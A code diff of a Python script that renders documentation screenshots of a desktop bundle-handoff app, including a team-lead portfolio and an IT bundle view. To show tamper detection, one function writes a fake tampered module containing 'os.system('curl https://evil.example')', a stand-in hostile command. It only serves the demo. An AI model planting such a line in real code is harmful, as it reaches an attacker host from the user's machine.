@@ -1,7 +1,12 @@
-"""Render every page of the desktop app on the bundled sample to docs/screenshots/*.png.
+"""Render the desktop app to docs/screenshots/*.png: what the README and the guides show.
 
-Run with ``make screenshots`` (offscreen, no display needed). The sample is copied to a temporary folder
-and the app's settings are temporary too, so nothing of the user's is read or changed.
+- the data scientist's pages on the bundled sample, light and dark (01-welcome … 07-bundle);
+- IT's bundle view: intact, configuration, changes since an earlier bundle, a real prepare-and-test run,
+  tampered (bundle-view*.png), over bundles of the test suite's tiny project built against a local wheelhouse;
+- the team lead's portfolio, light and dark (portfolio*.png), over a demo landing folder of small bundles.
+
+Run with ``make screenshots`` (offscreen, no display or network needed). Everything is written to one
+temporary folder, settings and databases included, so nothing of the user's is read or changed.
 """
 from __future__ import annotations
 
@@ -11,61 +16,101 @@ import shutil
 import sys
 import tempfile
 from pathlib import Path
+from typing import Callable
 
 from PySide6.QtCore import QEventLoop
 
-OUT = Path(__file__).resolve().parent / "screenshots"
-SIZE = (1280, 860)
+ROOT = Path(__file__).resolve().parent.parent
+OUT = ROOT / "docs" / "screenshots"
+SIZE = (1280, 880)
+SCRATCH = Path(tempfile.gettempdir()) / "handoff-screenshots"  # a fixed path: the project header shows it
 
 
 def main() -> int:
     os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
-    scratch = Path(tempfile.gettempdir()) / "handoff-screenshots"  # a fixed path: the header shows it
-    shutil.rmtree(scratch, ignore_errors=True)
+    shutil.rmtree(SCRATCH, ignore_errors=True)
     for name in ("HANDOFF_DATA_DIR", "HANDOFF_CACHE_DIR", "HANDOFF_LOG_DIR"):
-        os.environ[name] = str(scratch / name.lower())
+        os.environ[name] = str(SCRATCH / name.lower())
+    sys.path.insert(0, str(ROOT))  # the bundle and portfolio demos reuse the test suite's builders
 
-    from PySide6.QtCore import QSettings
     from PySide6.QtWidgets import QApplication
+
+    app = QApplication([sys.argv[0]])
+    OUT.mkdir(parents=True, exist_ok=True)
+    try:
+        project_pages(app)
+        bundle_view(app)
+        portfolio(app)
+    finally:
+        shutil.rmtree(SCRATCH, ignore_errors=True)
+    print(f"Screenshots in {OUT}")
+    return 0
+
+
+# Shared helpers ------------------------------------------------------------------------------------------
+def open_window(app, theme: str):
+    """A main window over the scratch settings, in ``theme``, shown at the screenshot size."""
+    from PySide6.QtCore import QSettings
 
     from handoff_assistant.gui.main_window import MainWindow
     from handoff_assistant.gui.settings import AppSettings
     from handoff_assistant.gui.theme import apply_theme
 
-    app = QApplication([sys.argv[0]])
-    OUT.mkdir(parents=True, exist_ok=True)
-    settings = AppSettings(QSettings(str(scratch / "settings.ini"), QSettings.Format.IniFormat))
-    settings.set_bundle_option("output_dir", str(scratch / "bundles"))
+    apply_theme(app, theme)
+    settings = AppSettings(QSettings(str(SCRATCH / "settings.ini"), QSettings.Format.IniFormat))
+    settings.set_bundle_option("output_dir", str(SCRATCH / "bundles"))
     settings.set_bundle_option("engine", "installed")
+    window = MainWindow(settings)
+    window.resize(*SIZE)
+    window.show()
+    return window
+
+
+def close_window(window) -> None:
+    if window.session is not None:
+        window.session.dirty = False  # demo details are never saved into the sample copy
+    window.close()
+
+
+def wait(app, signal, start: Callable[[], object]) -> None:
+    """Run ``start`` and process events until ``signal`` fires."""
+    done = []
+    signal.connect(lambda *args: done.append(True))
+    start()
+    while not done:
+        app.processEvents(QEventLoop.ProcessEventsFlag.WaitForMoreEvents)
+
+
+def save(app, window, name: str) -> None:
+    for _ in range(3):
+        app.processEvents()
+    path = OUT / f"{name}.png"
+    window.grab().save(str(path))
+    print(path)
+
+
+def suffix(theme: str) -> str:
+    return "" if theme == "light" else "-dark"
+
+
+# The data scientist's pages ------------------------------------------------------------------------------
+def project_pages(app) -> None:
     for theme in ("light", "dark"):
-        apply_theme(app, theme)
-        window = MainWindow(settings)
-        window.resize(*SIZE)
-        window.show()
-        shoot(app, window, theme)
-        window.session.dirty = False  # the demo details are not saved into the sample copy
-        window.close()
-    shutil.rmtree(scratch, ignore_errors=True)
-    print(f"Screenshots in {OUT}")
-    return 0
+        window = open_window(app, theme)
+        if theme == "light":
+            save(app, window, "01-welcome")
+        wait(app, window.scan_finished, window.open_sample)
+        fill_demo_details(window)
+        steps = [("overview", "02-overview"), ("dependencies", "03-dependencies"), ("findings", "04-findings"),
+                 ("checklist", "05-checklist"), ("details", "06-handoff-details"), ("bundle", "07-bundle")]
+        for page_id, name in steps:
+            window.project_view.show_page(page_id)
+            prepare_page(app, window, page_id)
+            save(app, window, name + suffix(theme))
+        close_window(window)
 
 
-def shoot(app, window, theme: str) -> None:
-    suffix = "" if theme == "light" else "-dark"
-    if theme == "light":
-        save(app, window, f"01-welcome{suffix}")
-    wait_for(app, window.scan_finished, window.open_sample)
-    view = window.project_view
-    fill_demo_details(window)
-    steps = [("overview", "02-overview"), ("dependencies", "03-dependencies"), ("findings", "04-findings"),
-             ("checklist", "05-checklist"), ("details", "06-handoff-details"), ("bundle", "07-bundle")]
-    for page_id, name in steps:
-        view.show_page(page_id)
-        prepare(app, window, page_id)
-        save(app, window, name + suffix)
-
-
-def prepare(app, window, page_id: str) -> None:
+def prepare_page(app, window, page_id: str) -> None:
     page = window.project_view.page(page_id)
     if page_id == "dependencies":
         page.select(lambda row: row.needs_attention)
@@ -99,20 +144,110 @@ def fill_demo_details(window) -> None:
         contacts=(Contact("Data platform on-call", "oncall@example.com", "escalation"),), entry_points=(entry,)))
 
 
-def wait_for(app, signal, start) -> None:
-    done = []
-    signal.connect(lambda *args: done.append(True))
-    start()
-    while not done:
-        app.processEvents(QEventLoop.ProcessEventsFlag.WaitForMoreEvents)
+# IT's bundle view ----------------------------------------------------------------------------------------
+def bundle_view(app) -> None:
+    earlier, bundle, tampered = build_bundles(SCRATCH / "it")
+    window = open_window(app, "light")
+    view = open_bundle(app, window, bundle)
+    save(app, window, "bundle-view")
+    view.tabs.setCurrentIndex(4)
+    save(app, window, "bundle-view-configuration")
+    wait(app, view.compared, lambda: view.compare_with(earlier))
+    save(app, window, "bundle-view-changes")
+    panel = view.prepare
+    view.tabs.setCurrentWidget(panel)
+    config = SCRATCH / "it" / "config.yaml"
+    config.write_text('score_factor: "2"\n')
+    panel.workdir_edit.setText(str(SCRATCH / "it" / "work"))
+    panel.config_edit.setText(str(config))
+    wait(app, panel.run_finished, panel.start)  # no MAIL_API_TOKEN: the configuration check fails and says why
+    panel.table.setCurrentIndex(panel.results.index(1, 0))
+    save(app, window, "bundle-view-prepare")
+    open_bundle(app, window, tampered)
+    save(app, window, "bundle-view-tampered")
+    close_window(window)
 
 
-def save(app, window, name: str) -> None:
-    for _ in range(3):
-        app.processEvents()
-    path = OUT / f"{name}.png"
-    window.grab().save(str(path))
-    print(path)
+def build_bundles(scratch: Path) -> tuple[Path, Path, Path]:
+    """An earlier and a later bundle of the tiny project (locked with hashes), and a tampered copy."""
+    from handoff_assistant.bundle import BundleOptions
+    from handoff_assistant.bundle.writer import write_bundle
+    from tests.bundle.helpers import inputs_for, make_project, make_wheelhouse
+    from tests.support.wheelhouse import offline_pip_env
+
+    pip_env = offline_pip_env(make_wheelhouse(scratch / "wheelhouse"))
+    os.environ.update({k: v for k, v in pip_env.items() if k.startswith("PIP_")})
+    built = []
+    for version in ("1", "2"):
+        project = make_project(scratch / f"v{version}" / "tiny-scorer")
+        if version == "2":
+            (project / "tinyscore" / "report.py").write_text('"""Weekly summary of the scores."""\n\n'
+                                                             "def summary(rows):\n    return len(rows)\n")
+        built.append(write_bundle(inputs_for(project), BundleOptions(
+            scratch / f"outbox-{version}", zip=True, engine="pip-tools", pip_env=pip_env)).path)
+    tampered = scratch / "tampered"
+    shutil.copytree(scratch / "v2" / "tiny-scorer", tampered / "src")
+    folder = write_bundle(inputs_for(tampered / "src"), BundleOptions(tampered / "out", zip=False,
+                                                                      engine="pip-tools", pip_env=pip_env)).path
+    (folder / "code" / "tinyscore" / "score.py").write_text("import os\nos.system('curl https://evil.example')\n")
+    return built[0], built[1], folder
+
+
+def open_bundle(app, window, path: Path):
+    view = window.open_bundle_view(path)
+    wait(app, view.loaded, lambda: None)
+    return view
+
+
+# The team lead's portfolio -------------------------------------------------------------------------------
+def portfolio(app) -> None:
+    landing = SCRATCH / "handoffs"
+    make_landing(landing)
+    for theme in ("light", "dark"):
+        window = open_window(app, theme)
+        page = window.open_portfolio()
+        wait(app, page.rows_loaded, lambda: page.add_source(landing))  # a known source is read again
+        page.select_project("churn")
+        wait(app, page.changes_shown, lambda: None)
+        save(app, window, "portfolio" + suffix(theme))
+        close_window(window)
+
+
+def sections(code, environment, portability, security, testing, operations) -> dict:
+    return dict(code=code, environment=environment, portability=portability, security=security, testing=testing,
+                operations=operations)
+
+
+def make_landing(drop: Path) -> None:
+    """A shared drive: four handoffs of churn (reviewed, verified), fraud with changes requested, pricing
+    failing IT's run, two of recsys and a truncated upload."""
+    from handoff_assistant.portfolio.reviews import save_review
+    from tests.portfolio.conftest import make_bundle, manifest, write_verification
+
+    churn = [("2026-09-12", 38, "Not ready", ("no-hardcoded-credentials", "owner-named"),
+              sections(60, 40, 30, 10, 20, 35)),
+             ("2026-10-03", 61, "Not ready", ("owner-named",), sections(75, 70, 60, 80, 40, 30)),
+             ("2026-10-24", 74, "Needs work", (), sections(85, 80, 75, 90, 55, 60)),
+             ("2026-11-20", 86, "Ready", (), sections(95, 90, 85, 100, 70, 75))]
+    for number, (day, score, level, blockers, scores) in enumerate(churn):
+        latest = make_bundle(drop / "churn", f"churn-{day}", manifest(
+            "churn", f"{day}T09:00:00+00:00", score, level, blockers, commit=f"{number + 1}a2b3c4d5e6f",
+            section_scores=scores))
+    save_review(latest, "approved", "Good to go; IT verified on staging.", by="m.lead")
+    write_verification(latest)
+    fraud = make_bundle(drop, "fraud-scoring-2026-11-02", manifest(
+        "fraud-scoring", "2026-11-02T10:00:00+00:00", 71, "Needs work", owner="Cy Model", commit="9f3e2a71c0d4",
+        section_scores=sections(90, 80, 75, 70, 30, 60)))
+    save_review(fraud, "changes requested", "Add an expected-output check before we schedule it.", by="m.lead")
+    pricing = make_bundle(drop, "pricing-2026-11-15", manifest(
+        "pricing", "2026-11-15T10:00:00+00:00", 44, "Not ready", ("no-user-home-paths",), owner="Dee Analyst",
+        commit="c0ffee1234ab", section_scores=sections(55, 60, 10, 50, 35, 45)))
+    write_verification(pricing, failed=("smoke",))
+    for day, score, commit in (("2026-10-30", 58, "77aa0b1c2d3e"), ("2026-11-18", 66, "88bb1c2d3e4f")):
+        make_bundle(drop, f"recsys-{day}", manifest(
+            "recsys", f"{day}T10:00:00+00:00", score, "Needs work", owner="Eli Scientist", commit=commit,
+            section_scores=sections(80, 70, 80, 65, 40, 50)))
+    (drop / "attrition-final.zip").write_bytes(b"PK\x03\x04 truncated upload")
 
 
 if __name__ == "__main__":
